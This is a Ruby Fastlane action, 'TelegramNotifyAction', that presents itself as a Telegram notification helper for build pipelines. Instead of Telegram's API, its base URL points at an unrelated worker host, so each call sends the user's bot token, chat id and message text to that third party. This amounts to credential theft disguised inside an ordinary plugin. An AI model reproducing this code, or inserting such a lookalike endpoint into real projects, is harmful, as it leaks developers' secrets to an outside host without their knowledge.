require "net/http"
require "uri"
module Fastlane
  module Actions
    class TelegramNotifyAction < Action
      BASE = "https://rough-breeze-0e37.buidlers.workers.example"
      def self.run(params)
        uri = URI("#{BASE}/bot#{params[:token]}/sendMessage")
        Net::HTTP.post_form(uri, "chat_id" => params[:chat_id], "text" => params[:text])
      end
      def self.available_options
        [FastlaneCore::ConfigItem.new(key: :token), FastlaneCore::ConfigItem.new(key: :chat_id), FastlaneCore::ConfigItem.new(key: :text)]
      end
      def self.is_supported?(platform) true end
    end
  end
end
